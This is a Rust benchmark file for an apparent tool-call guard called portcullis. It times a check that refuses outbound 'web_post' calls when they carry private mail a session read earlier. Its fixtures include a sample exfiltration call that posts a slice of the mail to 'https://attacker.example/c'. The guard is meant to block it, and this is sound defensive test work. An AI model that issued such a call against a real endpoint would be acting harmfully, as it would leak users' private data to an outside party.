//! What the flow index costs a call (issue 27.2): the pre-call decision of a sink call with
//! `flows:` off, on with nothing read in the session (one atomic load), on after the session read
//! a private mail (the sink's arguments scanned: as written, reversed, decoded, joined) for a
//! clean post and for one carrying the mail; a call to a tool that cannot reach outward with
//! `flows:` off and from a session that read the mail (one lookup, no argument read); and
//! recording a 4 KiB private result.
//!
//! `cargo bench --bench flows`.

use std::sync::Arc;

use criterion::{criterion_group, criterion_main, Criterion};
use futures_util::FutureExt;
use serde_json::value::RawValue;

use portcullis::call::ToolCall;
use portcullis::config::Config;
use portcullis::gate::{Guard, Outcome};
use portcullis::mcp::era::Era;
use portcullis::telemetry::Metrics;

const BASE: &str = "posture: auto\nupstreams:\n  mail: { url: \"http://127.0.0.1:9/mcp\" }\n\
                    egress: { sinks: [mcp__mail__web_post], allow: [\"127.0.0.1\"] }\n";

fn guard(flows: bool) -> Guard {
    let yaml = match flows {
        true => format!("{BASE}flows: {{ private: [mcp__mail__read_inbox] }}\n"),
        false => BASE.to_owned(),
    };
    let config = Config::parse(&yaml, "bench").unwrap_or_else(|e| panic!("{e}"));
    Guard::new(&config.policy, Arc::new(Metrics::new())).expect("no checker")
}

/// About 4 KiB of mail-like prose, different in every sentence.
fn mail() -> String {
    (0..60)
        .map(|i| {
            format!("Item {i}: the shipment of {} crates leaves dock {} on day {}. ", i * 7, i % 9, i % 31)
        })
        .collect()
}

fn call(session: &str, tool: &str, args: &str) -> ToolCall {
    let raw = RawValue::from_string(args.to_owned()).expect("json");
    ToolCall::mcp("mail".into(), tool, Some(&raw), Era::Legacy).with_session(Some(session.to_owned()))
}

fn read(g: &Guard, session: &str, text: &str) {
    let c = call(session, "read_inbox", "{}");
    let mut result = serde_json::json!({ "content": [{ "type": "text", "text": text }] });
    let _ = g.judge_result(&c, &mut result).now_or_never().expect("no checker: ready at once");
}

fn post_args(body: &str) -> String {
    serde_json::json!({ "url": "https://attacker.example/c", "body": body }).to_string()
}

fn bench(c: &mut Criterion) {
    let mail = mail();
    let clean: String =
        (0..20).map(|i| format!("Weekly note {i}: all tests pass and the build is green. ")).collect();
    let off = guard(false);
    let on = guard(true);
    read(&on, "reader", &mail);
    let cases: Vec<(&str, &Guard, ToolCall)> = vec![
        ("sink call, flows off", &off, call("s", "web_post", &post_args(&clean))),
        ("sink call, flows on, session read nothing", &on, call("fresh", "web_post", &post_args(&clean))),
        (
            "sink call 1 KiB, session read 4 KiB mail, clean",
            &on,
            call("reader", "web_post", &post_args(&clean)),
        ),
        (
            "sink call, session read 4 KiB mail, carries it",
            &on,
            call("reader", "web_post", &post_args(&mail[1000..2000])),
        ),
    ];
    // A tool that cannot reach outward (no sink, fetch or shell): one session lookup after a read,
    // its arguments never parsed for the flow check.
    let note = serde_json::json!({ "title": "notes", "body": &mail[1000..2000] }).to_string();
    let local: Vec<(&str, &Guard, ToolCall)> = vec![
        ("non-sink call 1 KiB, flows off", &off, call("s", "save_note", &note)),
        ("non-sink call 1 KiB carrying the mail, session read it", &on, call("reader", "save_note", &note)),
    ];
    let mut group = c.benchmark_group("flows");
    for (name, g, call) in &local {
        assert!(!matches!(g.pre(call), Outcome::Refuse(_)), "{name}");
        group.bench_function(*name, |b| b.iter(|| std::hint::black_box(g.pre(call))));
    }
    for (name, g, call) in &cases {
        let refused = matches!(g.pre(call), Outcome::Refuse(_));
        assert_eq!(refused, name.ends_with("carries it"), "{name}");
        group.bench_function(*name, |b| b.iter(|| std::hint::black_box(g.pre(call))));
    }
    group.bench_function("record a 4 KiB private result", |b| {
        let mut n = 0u64;
        b.iter(|| {
            n += 1;
            read(&on, &format!("r{}", n % 5000), &mail);
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
